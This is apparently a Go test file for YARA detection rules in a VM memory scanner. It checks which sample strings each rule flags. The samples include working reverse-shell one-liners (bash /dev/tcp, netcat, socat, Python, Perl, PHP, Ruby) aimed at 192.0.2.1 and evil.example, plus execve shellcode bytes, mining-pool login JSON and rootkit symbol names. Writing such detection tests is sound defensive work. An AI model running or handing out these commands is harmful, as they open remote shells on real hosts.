package yara_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"iter"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/vantage-vmi/vantage/hypervisor"
	"github.com/vantage-vmi/vantage/introspect/paging"
	rules "github.com/vantage-vmi/vantage/rules/yara"
	"github.com/vantage-vmi/vantage/scanner"
)

// memory is a guest with one process, whose one area is all of RAM.
type memory []byte

func (m memory) ReadPhys(p []byte, a hypervisor.PhysAddr) (int, error) {
	if uint64(a) >= uint64(len(m)) {
		return 0, hypervisor.ErrNotRAM
	}
	return copy(p, m[a:]), nil
}

func (m memory) Ranges() []hypervisor.Range { return []hypervisor.Range{{Size: uint64(len(m))}} }

const base hypervisor.VirtAddr = 0x7f00_0000_0000

func (m memory) Mappings(_ context.Context, lo, hi hypervisor.VirtAddr) iter.Seq2[paging.Mapping, error] {
	return func(yield func(paging.Mapping, error) bool) {
		for off := 0; off < len(m); off += hypervisor.PageSize {
			if v := base + hypervisor.VirtAddr(off); v >= lo && v < hi {
				if !yield(paging.Mapping{Virt: v, Phys: hypervisor.PhysAddr(off), Size: hypervisor.PageSize}, nil) {
					return
				}
			}
		}
	}
}

func load(t *testing.T) *scanner.Rules {
	t.Helper()
	r, err := scanner.LoadRules(scanner.RuleOptions{}, scanner.FromFS(rules.Files(), rules.Name))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	return r
}

// scan returns the names of the rules that match data in an area.
func scan(t *testing.T, r *scanner.Rules, data []byte, area scanner.Area) []string {
	t.Helper()
	m := make(memory, (len(data)+hypervisor.PageSize-1)&^(hypervisor.PageSize-1))
	copy(m, data)
	area.Start, area.End = base, base+hypervisor.VirtAddr(len(m))
	var names []string
	sum, err := scanner.Scan(context.Background(), m, r,
		[]scanner.Target{scanner.ProcessTarget{PID: 1, Comm: "x", Space: m, Areas: []scanner.Area{area}}},
		scanner.Options{OnFinding: func(f scanner.Finding) error {
			names = append(names, f.Rule)
			return nil
		}})
	if err != nil || !sum.Complete {
		t.Fatalf("scan: %v, %+v", err, sum)
	}
	return names
}

func elf() []byte { return append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 57)...) }

func shellcode(word string) []byte {
	var b bytes.Buffer
	b.Write([]byte{0x48, 0x31, 0xd2, 0x48, 0xbb})
	b.WriteString(word)
	b.Write([]byte{0x53, 0x48, 0x89, 0xe7, 0x50, 0x57, 0x48, 0x89, 0xe6, 0xb0, 0x3b, 0x0f, 0x05})
	return b.Bytes()
}

func TestRules(t *testing.T) {
	r := load(t)
	tested := map[string]bool{}
	// Put together here, so that no scanner takes this file for what it tests.
	eicar, err := base64.StdEncoding.DecodeString("WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo=")
	if err != nil {
		t.Fatal(err)
	}
	anonX := scanner.Area{Perms: "rwxp"}
	for _, c := range []struct {
		rule string
		yes  []string
		no   []string
		area scanner.Area
		noIn []scanner.Area
	}{
		{
			rule: "Vantage_Test_Payload",
			yes:  []string{"VANTAGE-TEST-PAYLOAD-7f3a", "V\x00A\x00N\x00T\x00A\x00G\x00E\x00-\x00T\x00E\x00S\x00T\x00-\x00P\x00A\x00Y\x00L\x00O\x00A\x00D\x00-\x00"},
			no:   []string{"VANTAGE-TEST-PAYLOAD", "vantage-test-payload-"},
		}, {
			rule: "EICAR_Test_String",
			yes:  []string{string(eicar)},
			no:   []string{string(eicar[1:]), "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"},
		}, {
			rule: "Reverse_Shell_Bash",
			yes:  []string{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "sh -c bash -i >&/dev/udp/evil.example/53", "exec 5<>/dev/tcp/192.0.2.1/4444;cat <&5"},
			no:   []string{"bash -i", "/dev/tcp/host/port", "echo > /dev/tcp/192.0.2.1/80", "exec 3<>/dev/null"},
		}, {
			rule: "Reverse_Shell_Netcat",
			yes: []string{
				"nc 192.0.2.1 4444 -e /bin/sh", "\x00ncat --ssl 192.0.2.1 443 -e /bin/bash\x00",
				"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
				"socat tcp:192.0.2.1:4444 exec:'bash -li',pty,stderr",
			},
			no: []string{"nc -l 4444", "nc 192.0.2.1 80 -e 5", "rsync -e /bin/shell", "sync host -e /bin/sh", "mkfifo /tmp/f; /bin/sh -i | cat"},
		}, {
			rule: "Reverse_Shell_Interpreter",
			yes: []string{
				`import socket,os,pty;s=socket.socket(socket.AF_INET);s.connect(("192.0.2.1",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);pty.spawn("/bin/sh")`,
				`perl -e 'use Socket;$i="192.0.2.1";socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(1,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'`,
				`php -r '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`,
				`ruby -rsocket -e 'f=TCPSocket.open("192.0.2.1",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
			},
			no: []string{`s=socket.socket(socket.AF_INET)`, `use Socket; print 1`, `fsockopen("localhost",80);`, `pty.spawn("/bin/sh")`},
		}, {
			rule: "ELF_In_Anonymous_Executable_Memory",
			yes:  []string{string(elf())},
			no:   []string{"\x7fELF", " " + string(elf()), strings.Repeat("\x00", 4096) + string(elf()), "MZ"},
			area: anonX,
			noIn: []scanner.Area{{Perms: "rw-p"}, {Perms: "r-xp", Name: "/bin/true"}, {Perms: "r-xp", Name: "[vdso]"}, {}},
		}, {
			rule: "ELF_Executed_From_Memfd",
			yes:  []string{string(elf()), "code"},
			area: scanner.Area{Perms: "r-xp", Name: "/memfd:x (deleted)"},
			noIn: []scanner.Area{{Perms: "rw-s", Name: "/memfd:x (deleted)"}, {Perms: "r-xp", Name: "/memfd:runc_cloned:/proc/self/exe (deleted)"}, anonX},
		}, {
			rule: "Shellcode_Execve_Bin_Sh_X64",
			yes:  []string{string(shellcode("/bin//sh")), string(shellcode("//bin/sh")), string(shellcode("/bin/sh\x00"))},
			no:   []string{"/bin//sh", string(shellcode("/bin/cat")), string(shellcode("/bin//sh")[:14])},
		}, {
			rule: "Miner_Stratum",
			yes:  []string{"stratum+tcp://pool.example.org:3333", `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4"}}`, `{"id":1,"method":"mining.subscribe","params":[]}`},
			no:   []string{"stratum+tcp://", "chrony stratum 2", `{"id":1,"jsonrpc":"2.0","method":"logout"}`},
		}, {
			rule: "Rootkit_Diamorphine",
			yes:  []string{"diamorphine_init\x00diamorphine_cleanup\x00", "hacked_kill\x00hacked_getdents64"},
			no:   []string{"diamorphine_init", "see diamorphine_init here", "xhacked_kill hacked_getdents64x"},
		}, {
			rule: "Rootkit_Reptile",
			yes:  []string{"reptile_init\x00reptile_exit", "magic_packet_hook\x00khook_fork_x"},
			no:   []string{"reptile_init", "magic_packet_hook", "reptile"},
		}, {
			rule: "Preload_Rootkit",
			yes:  []string{"/lib/libprocesshider.so", "HIDE_THIS_SHELL=plz", "/usr/lib/jynx2.so"},
			no:   []string{"LD_PRELOAD=/usr/lib/libfakeroot.so", "xjynx2.so"},
		},
	} {
		t.Run(c.rule, func(t *testing.T) {
			for _, s := range c.yes {
				if got := scan(t, r, []byte(s), c.area); !slices.Contains(got, c.rule) {
					t.Errorf("does not match %q (matched: %q)", s, got)
				}
				for _, a := range c.noIn {
					if got := scan(t, r, []byte(s), a); slices.Contains(got, c.rule) {
						t.Errorf("matches %q in %+v", s, a)
					}
				}
			}
			for _, s := range c.no {
				if got := scan(t, r, []byte(s), c.area); slices.Contains(got, c.rule) {
					t.Errorf("matches %q", s)
				}
			}
			tested[c.rule] = true
		})
	}
	for _, n := range r.Names() {
		if _, rule, _ := strings.Cut(n, ":"); !tested[rule] {
			t.Errorf("rule %s has no test", rule)
		}
	}
}

func TestRulesSayWhoAndWhat(t *testing.T) {
	r := load(t)
	if w := r.Warnings(); len(w) > 0 {
		t.Errorf("warnings: %v", w)
	}
	for _, i := range r.Info() {
		for _, k := range []string{"author", "description", "severity", "reference"} {
			if s, _ := i.Meta[k].(string); s == "" {
				t.Errorf("%s has no %s", i.Name, k)
			}
		}
		if s, _ := i.Meta["severity"].(string); !regexp.MustCompile(`^(info|low|medium|high|critical)$`).MatchString(s) {
			t.Errorf("%s: severity %q", i.Name, s)
		}
		if len(i.Tags) == 0 {
			t.Errorf("%s has no tag", i.Name)
		}
	}
}
